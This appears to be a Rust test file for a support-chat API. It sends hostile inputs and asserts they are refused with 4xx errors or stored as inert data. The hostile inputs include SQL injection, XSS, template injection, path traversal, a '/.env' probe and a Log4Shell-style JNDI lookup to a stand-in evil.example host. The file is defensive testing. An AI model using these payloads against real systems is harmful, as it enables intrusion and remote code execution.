//! Bodies, paths and headers that nobody means well with: always a 4xx problem document, never a 5xx.

use crate::support::app::App;
use axum::http::Method;
use deskhand::domain::person::Role;
use serde_json::{Value, json};

/// Bodies that are wrong wherever they are sent.
fn bodies(field: &str) -> Vec<(&'static str, Vec<u8>)> {
    let deep = |open: &str, close: &str| {
        [open.repeat(5000), "1".to_owned(), close.repeat(5000)].concat().into_bytes()
    };
    let with = |value: &[u8]| [b"{\"", field.as_bytes(), b"\": ", value, b"}"].concat();
    vec![
        ("nothing", Vec::new()),
        ("no json", b"hello".to_vec()),
        ("half", b"{\"id\": \"a".to_vec()),
        ("invalid utf-8", with(b"\"\xff\xfe\"")),
        ("overlong utf-8", with(b"\"\xc0\xaf\"")),
        ("lone surrogate", with(b"\"\\ud800\"")),
        ("deep lists", deep("[", "]")),
        ("deep objects", with(&deep("{\"a\":", "}"))),
        ("a number", b"5".to_vec()),
        ("null", b"null".to_vec()),
        ("a huge number", with(b"1e999999")),
        ("a nul byte", with(b"\"\0\"")),
        ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
        ("two values", b"{} {}".to_vec()),
        ("invalid utf-8 where nobody looks", b"{\"nobody\": \"\xff\"}".to_vec()),
        ("too large", with(&[b"\"", &vec![b'x'; 200_000][..], b"\""].concat())),
    ]
}

#[tokio::test]
async fn no_body_gets_more_than_a_refusal() {
    let app = App::asleep().await;
    let token = app.visitor().await;
    app.post("/chat/v1/messages", json!({"id": "m1", "text": "Hello"})).bearer(&token).send().await;
    let talk = app.conversation(&token).await;
    let agent = app.signed_in("Maria", Role::Agent).await;
    let routes = [
        (Method::POST, "/chat/v1/sessions".to_owned(), "locale"),
        (Method::POST, "/chat/v1/messages".to_owned(), "id"),
        (Method::POST, "/chat/v1/feedback".to_owned(), "comment"),
        (Method::POST, "/api/v1/session".to_owned(), "link"),
        (Method::POST, format!("/api/v1/conversations/{talk}/messages"), "text"),
        (Method::POST, format!("/api/v1/conversations/{talk}/notes"), "id"),
        (Method::POST, format!("/api/v1/conversations/{talk}/handoff"), "team"),
        (Method::PATCH, "/api/v1/tickets/T-1001".to_owned(), "status"),
    ];
    for (method, path, field) in routes {
        for (what, body) in bodies(field) {
            let app = &app;
            let call = app.call(method.clone(), &path).bearer(&token).cookie(&agent).own_page();
            let answer = call.body("application/json", body).send().await;
            assert!(answer.status.is_client_error(), "{path}, {what}: {} {}", answer.status, answer.text());
            assert_eq!(answer.header("content-type"), "application/problem+json", "{path}, {what}");
            assert!(answer.body.len() < 1000, "{path}, {what}: the answer repeats too much of the question");
        }
        for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "text/html"] {
            let call = app.call(method.clone(), &path).bearer(&token).cookie(&agent).own_page();
            call.body(kind, "{\"id\":\"a\",\"text\":\"x\",\"team\":\"support\"}")
                .send()
                .await
                .is_problem(415, "not-json");
        }
    }
}

#[tokio::test]
async fn unknown_addresses_and_methods_are_json() {
    let app = App::asleep().await;
    for path in [
        "/nowhere",
        "/chat/v1/nowhere",
        "/api/v1/nowhere",
        "/api",
        "/hooks",
        "/api/v1/conversations/",
        "/%00",
        "/chat/v1/events/x",
        "/.env",
    ] {
        for method in [Method::GET, Method::POST, Method::DELETE] {
            let answer = app.call(method.clone(), path).own_page().send().await;
            answer.is_problem(404, "not-found");
        }
    }
    for (method, path) in [
        (Method::GET, "/chat/v1/messages"),
        (Method::PUT, "/api/v1/session"),
        (Method::DELETE, "/healthz"),
        (Method::PATCH, "/chat/v1/sessions"),
    ] {
        app.call(method, path).own_page().send().await.is_problem(405, "method-not-allowed");
    }
}

#[tokio::test]
async fn ids_that_are_none_name_nothing() {
    let app = App::asleep().await;
    let token = app.visitor().await;
    let agent = app.signed_in("Maria", Role::Agent).await;
    for id in ["x", "1", "00000000-0000-0000-0000-000000000000", "..%2f..", "%ff", "%00", "' or 1=1 --"]
        .map(|id| id.replace(' ', "%20"))
    {
        for path in [
            format!("/api/v1/conversations/{id}"),
            format!("/api/v1/conversations/{id}/events"),
            format!("/api/v1/conversations/{id}/uploads/{id}"),
        ] {
            app.get(&path).cookie(&agent).send().await.is_problem(404, "not-found");
        }
        app.get(&format!("/chat/v1/uploads/{id}")).bearer(&token).send().await.is_problem(404, "not-found");
        let change = json!({"status": "solved"});
        let answer = app
            .call(Method::PATCH, &format!("/api/v1/tickets/{id}"))
            .json(&change)
            .cookie(&agent)
            .own_page()
            .send()
            .await;
        answer.is_problem(404, "not-found");
    }
}

#[tokio::test]
async fn queries_that_make_no_sense_are_refused() {
    let app = App::asleep().await;
    let agent = app.signed_in("Maria", Role::Agent).await;
    let long = "x".repeat(201);
    for query in ["view=nonsense", "limit=0", "limit=201", "limit=x", "q=a%00b", &format!("q={long}")] {
        app.get(&format!("/api/v1/conversations?{query}"))
            .cookie(&agent)
            .send()
            .await
            .is_problem(400, "bad-query");
    }
    for query in ["status=nonsense", "limit=-1"] {
        app.get(&format!("/api/v1/tickets?{query}")).cookie(&agent).send().await.is_problem(400, "bad-query");
    }
    // A cursor from nowhere begins nowhere, or at the beginning; it never breaks anything.
    for cursor in
        ["x", "%00", "AAAA", "'; drop table conversation; --"].map(|cursor| cursor.replace(' ', "%20"))
    {
        for list in ["conversations", "tickets"] {
            let answer = app.get(&format!("/api/v1/{list}?cursor={cursor}")).cookie(&agent).send().await;
            assert!(
                answer.status == 200 || answer.status.is_client_error(),
                "{list}, {cursor}: {}",
                answer.text()
            );
        }
    }
}

#[tokio::test]
async fn hostile_words_come_back_as_they_were_and_as_data() {
    let app = App::asleep().await;
    let token = app.visitor().await;
    let words = [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1)) ![y](https://evil.example/pixel.png)",
        "'; DROP TABLE event; --",
        "{{ desk.secret }} {% for i in range(1e9) %}{% endfor %}",
        "\u{202e}gnirts\u{2066}\u{200b}",
        "👩‍👩‍👧‍👦 مرحبا 你好",
        "\u{1b}[31mred\u{1b}[0m\u{7}",
        "${jndi:ldap://evil.example/a}",
    ];
    for (number, text) in words.iter().enumerate() {
        let answer = app
            .post("/chat/v1/messages", json!({"id": format!("m{number}"), "text": text}))
            .bearer(&token)
            .send()
            .await;
        assert_eq!(answer.status, 202, "{text}");
    }
    let seen: Vec<Value> =
        app.sees(&token).await.into_iter().filter(|event| event["from"] == "customer").collect();
    let texts: Vec<&str> = seen.iter().map(|event| event["text"].as_str().unwrap()).collect();
    assert_eq!(texts, words);
}
